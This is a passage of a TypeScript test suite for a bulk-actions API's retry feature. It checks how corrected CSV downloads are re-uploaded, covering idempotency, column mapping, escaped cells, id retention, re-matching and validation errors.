    const key = { 'idempotency-key': randomUUID() };
    const answer = await csv(`retryOf=${actionId}&actionType=update&entityType=contact&config={}`, sent, key);
    expect([answer.status, answer.body.data]).toMatchObject([
      202,
      { retryOf: actionId, total: 2, actionType: 'update', leftOut: { success: 3, skipped: 1 } },
    ]);
    const retried = await dispatched(answer);
    expect(await staged(retried)).toEqual([
      { id: 'c5', ref: null, city: 'Old 5' },
      { id: 'c1', ref: null, city: 'New 1' },
    ]);
    // The rows are being tried.
    expect(await csv(`retryOf=${actionId}`, sent)).toMatchObject({
      status: 400,
      body: {
        error: { code: 'INVALID_ROW', details: [{ field: 'line 2: _row' }, { field: 'line 6: _row' }] },
      },
    });
    await withOutcomes(retried, (_, id) => (id === 'c1' ? 'success' : 'failure'));
    expect(await afterRetries(actionId)).toEqual({ actions: 1, success: 4, failure: 1, skipped: 1 });
    const again = await csv(`retryOf=${actionId}&actionType=update&entityType=contact&config={}`, sent, key);
    expect([again.status, again.headers.get('idempotency-replayed')]).toEqual([202, 'true']);

    // The results of the retry are corrected in the same way, and have our columns once.
    const second = await withInput(retried);
    expect(second.split(/\r?\n/)[0]).toBe(`id,city,${OWN.join(',')}`);
    const last = await dispatched(await csv(`retryOf=${retried}`, second.replace('"Old 5"', 'New 5')));
    expect(await staged(last)).toEqual([{ id: 'c5', ref: null, city: 'New 5' }]);
    await withOutcomes(last, () => 'success');
    expect(await afterRetries(actionId)).toEqual({ actions: 2, success: 5, failure: 0, skipped: 1 });
    expect(await csv(`retryOf=${actionId}`, sent)).toMatchObject({
      status: 422,
      body: { error: { code: 'NOTHING_TO_RETRY' } },
    });
  });

  it('keeps the map of the columns of the file', async () => {
    const columns = encodeURIComponent(
      JSON.stringify({ 'The $key': 'id', 'Living.in': 'city', Notes: null }),
    );
    const text = 'The $key,Living.in,Notes\nc0,A,=x\nc1,B,=y\n';
    const actionId = await dispatched(await csv(`actionType=update&columns=${columns}`, text));
    await withOutcomes(actionId);
    const sent = (await withInput(actionId)).replace('c1,B', 'c1,New');
    const retried = await dispatched(await csv(`retryOf=${actionId}`, sent));
    expect(await staged(retried)).toEqual([{ id: 'c1', ref: null, city: 'New' }]);
  });

  it('reads escaped cells as the file was read, unless the request says otherwise', async () => {
    const text = "id,lastName\nc0,A\nc1,'=1+1\n";
    const actionId = await dispatched(await csv('actionType=update&escaped=true', text));
    await withOutcomes(actionId);
    const sent = await withInput(actionId);
    expect(sent).toContain("\nc1,'=1+1,2,failure,");
    const retried = await dispatched(await csv(`retryOf=${actionId}`, sent));
    expect(await staged(retried)).toEqual([{ id: 'c1', ref: null, lastName: '=1+1' }]);
    await withOutcomes(retried, () => 'failure');
    const exact = await withInput(retried);
    const last = await dispatched(await csv(`retryOf=${retried}&escaped=false`, exact));
    expect(await staged(last)).toEqual([{ id: 'c1', ref: null, lastName: "'=1+1" }]);
  });

  it('keeps the ids that a create gave to rows without one', async () => {
    const actionId = await dispatched(await csv('actionType=create', 'lastName\nA\nB\n'));
    const before = await staged(actionId);
    await withOutcomes(actionId);
    const sent = (await withInput(actionId)).replace('\nB,', '\nNew,');
    const retried = await dispatched(await csv(`retryOf=${actionId}`, sent));
    expect(await staged(retried)).toEqual([{ id: before[1]?.['id'], ref: null, lastName: 'New' }]);
    await withOutcomes(retried, () => 'failure');
    // Our log has the id, even if a person removes the cell or changes it.
    const unnamed = (await withInput(retried)).replace(String(before[1]?.['id']), '');
    const second = await dispatched(await csv(`retryOf=${retried}`, unnamed));
    expect(await staged(second)).toEqual([{ id: before[1]?.['id'], ref: null, lastName: 'New' }]);
    await withOutcomes(second, () => 'failure');
    const changed = (await withInput(second)).replace(String(before[1]?.['id']), 'other');
    const last = await dispatched(await csv(`retryOf=${second}`, changed));
    expect(await staged(last)).toEqual([{ id: before[1]?.['id'], ref: null, lastName: 'New' }]);
  });

  it('matches the rows of a file again, and keeps their columns and places', async () => {
    const text = 'email,city\nm0@x.example,A\nm1@x.example,B\nm2@x.example,C\n';
    const actionId = await dispatched(await csv('actionType=upsert&matchBy=email', text));
    const before = await staged(actionId);
    await withOutcomes(actionId);
    const sent = (await withInput(actionId)).replace('m1@x.example,B', 'm1@x.example,New');
    expect(sent.split('\n')[0]).toBe(`email,city,${OWN.join(',')}`);
    const answer = await csv(`retryOf=${actionId}&matchBy=email`, sent);
    expect(answer.body.data).toMatchObject({ matchBy: 'email', total: 1, leftOut: { success: 2 } });
    const retried = await dispatched(answer);
    const row = { id: before[1]?.['id'], ref: null, email: 'm1@x.example', city: 'New' };
    expect(await staged(retried)).toEqual([row]);
    await withOutcomes(retried, () => 'success');
    expect(await afterRetries(actionId)).toMatchObject({ actions: 1, success: 3, failure: 0 });
    expect(await withInput(retried)).toContain('\nm1@x.example,New,1,success,');
  });

  it('takes a corrected value that finds another entity, or the ids of matched entities', async () => {
    const entities = ['n0', 'n1', 'n2'].map((name) => ({ email: `${name}@x.example`, city: 'Old' }));
    const body = { actionType: 'update', matchBy: 'email', entities };
    const actionId = await dispatched(await harness.post(body));
    // No contact has one of the addresses, so that every row is a failure of its own.
    await withOutcomes(actionId, () => 'failure');
    await harness.database.entities('contacts').insertOne({
      _id: entityKey('acme', 'n9'), accountId: 'acme', id: 'n9', email: 'n9@x.example', version: 1, createdAt: new Date(), updatedAt: new Date(),
    }); // prettier-ignore
    const corrected = [
      { position: 1, email: 'n9@x.example', city: 'New' },
      { position: 2, id: 'n7' },
    ];
    const retried = await dispatched(await retryWith(actionId, { entities: corrected }));
    expect(await staged(retried)).toEqual([
      { id: 'n9', ref: null, city: 'New' },
      { id: 'n7', ref: null },
    ]);
    await withOutcomes(retried, () => 'failure');
    const sent = (await withInput(retried)).replace('n9,New', 'n9,Newer');
    const last = await dispatched(await csv(`retryOf=${retried}`, sent));
    expect(await staged(last)).toMatchObject([{ id: 'n9', city: 'Newer' }, { id: 'n7' }]);
    await withOutcomes(last, () => 'failure');
    const third = await dispatched(await csv(`retryOf=${last}`, await withInput(last)));
    expect(await staged(third)).toMatchObject([{ id: 'n9', city: 'Newer' }, { id: 'n7' }]);
    const limited = await csv(`retryOf=${retried}&maxFailures=1`, sent);
    expect(limited).toMatchObject({ status: 400, body: { error: { details: [{ field: 'maxFailures' }] } } });
  });

  it('matches a corrected value of an upsert again, whose download shows the id that it derived', async () => {
    const entities = [{ email: 'typoo@x.example', score: 1 }];
    const actionId = await dispatched(
      await harness.post({ actionType: 'upsert', matchBy: 'email', entities }),
    );
    await withOutcomes(actionId, () => 'failure');
    await harness.database.entities('contacts').insertOne({
      _id: entityKey('acme', 'typo'), accountId: 'acme', id: 'typo', email: 'typo@x.example', version: 1, createdAt: new Date(), updatedAt: new Date(),
    }); // prettier-ignore
    const sent = (await withInput(actionId)).replace('typoo@', 'typo@');
    const retried = await dispatched(await csv(`retryOf=${actionId}`, sent));
    expect(await staged(retried)).toMatchObject([{ id: 'typo', email: 'typo@x.example', score: 1 }]);
  });

  it('refuses a row of which nothing was kept, and names its line', async () => {
    const big = `id,lastName\n,${'x'.repeat(3_000)}\n,A\n`;
    const actionId = await dispatched(await csv('actionType=create', big));
    await withOutcomes(actionId, () => 'failure');
    const { status, body } = await csv(`retryOf=${actionId}`, await withInput(actionId));
    expect([status, body.error?.details]).toEqual([
      400,
      [{ field: 'line 2: _row', message: expect.stringContaining('too large to be kept') }],
    ]);
  });

  it('fails a faulty row, and leaves out failed rows whose cell says success', async () => {
    const actionId = await uploaded(file);
    const [head = ''] = (await withInput(actionId)).split('\n');
    const answer = await csv(`retryOf=${actionId}`, `${head}\n,x,2,failure,,,,,\nc5,y,6,success,,,,,\n`);
    expect(answer.body.data).toMatchObject({ total: 1, leftOut: { success: 1, skipped: 0 } });
    const { entities } = (await harness.database.stagedBatches.findOne({
      actionId: String(answer.body.data?.['actionId']),
    }))!;
    expect(entities).toMatchObject([{ id: '', fault: { code: 'INVALID_ROW' } }]);
  });

  it('takes rows as large as any entity, a delimiter of its own, and no member of an entity for our column', async () => {
    const entity = (i: number) => ({ id: `c${i}`, notes: 'x'.repeat(1_970) });
    const big = await dispatched(
      await csv('actionType=update', `sep=^\nid^notes\n${[0, 1].map((i) => Object.values(entity(i)).join('^')).join('\n')}\n`),
    ); // prettier-ignore
    await withOutcomes(big);
    const sent = await withInput(big);
    expect(sent).toContain(`id^notes^${OWN.join('^')}\n`);
    const retried = await dispatched(await csv(`retryOf=${big}&invalidRows=refuse`, sent));
    expect(await staged(retried)).toEqual([{ ...entity(1), ref: null }]);

    const entities = ['c0', 'c1'].map((id) => ({ id, _row: 7, _status: 'success', city: 'A' }));
    const named = await dispatched(await harness.post({ actionType: 'update', entities }));
    await withOutcomes(named);
    expect(await withInput(named, '&type=failure')).toMatch(`id,city,${OWN.join(',')}\nc1,A,2,failure,`);
  });

  it('is accepted once and answered alike when it is sent several times at once with one key', async () => {
    const actionId = await uploaded(file);
    const sent = corrected(await withInput(actionId));
    const send = (key: string) => csv(`retryOf=${actionId}`, sent, { 'idempotency-key': key });
    const key = randomUUID();
    const answers = await Promise.all([1, 2, 3, 4].map(() => send(key)));
    for (const { status, body } of answers)
      expect([202, 409]).toContain(body.error?.code === 'IDEMPOTENCY_IN_PROGRESS' ? 409 : status);
    const ids = new Set(answers.flatMap(({ body }) => body.data?.['actionId'] ?? []));
    expect(ids.size).toBe(1);
  });

  it('is refused as a whole, with the line and the value at fault, and does nothing', async () => {
    const actionId = await uploaded(file);
    const before = await harness.traces();
    const refused = async (text: string, query = ''): Promise<unknown> => {
      const { status, body } = await csv(`retryOf=${actionId}${query}`, text);
      return [status, body.error?.code, ...(body.error?.details ?? []).map(({ field }) => field)];
    };
    const invalid = (...fields: string[]): unknown[] => [400, 'INVALID_REQUEST', ...fields];
    expect(await refused('id,city\nc1,x\n')).toEqual([400, 'INVALID_HEADER', '_row']);
    const rows = ['c1,x,2', 'c1,x,', 'c1,x,0', 'c1,x,7', 'c1,x,2', 'c1,x,1e0'];
    const head = `id,score,${OWN.join(',')}\n`;
    const shifted = ['c1,"x",7,2,failure,,,,,', 'c5,6,failure,,,,', 'c1,x,2,failure'].join('\n');
    expect(await refused(`${head}${shifted}\n`)).toEqual([
      400, 'INVALID_ROW', 'line 2: _row', 'line 3: _row',
    ]); // prettier-ignore
    const lines = [3, 4, 5, 6, 7].map((line) => `line ${line}: _row`);
    expect(await refused(`id,city,_row\n${rows.join('\n')}\n`)).toEqual([400, 'INVALID_ROW', ...lines]);
    const good = 'id,city,_row\nc1,x,2\n';
    expect(await refused(good, '&entityType=lead&dryRun=true')).toEqual(invalid('entityType', 'dryRun'));
    expect(await refused(good, '&config={"set":{"city":"x"}}')).toEqual(invalid('config'));
    expect(await refused(good, '&scheduledFor=2999-01-01T00:00:00Z')).toEqual(invalid('scheduledFor'));
    expect((await csv('retryOf=7', good)).status).toBe(400);
    expect((await csv(`retryOf=${randomUUID()}`, good)).status).toBe(404);
    const ndjson = { 'content-type': 'application/x-ndjson' };
    const other = await harness.upload(`/bulk-actions?retryOf=${actionId}`, '{"id":"c1"}', ndjson);
    expect([other.status, other.body.error?.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
    expect(await harness.traces()).toEqual(before);
  });
});
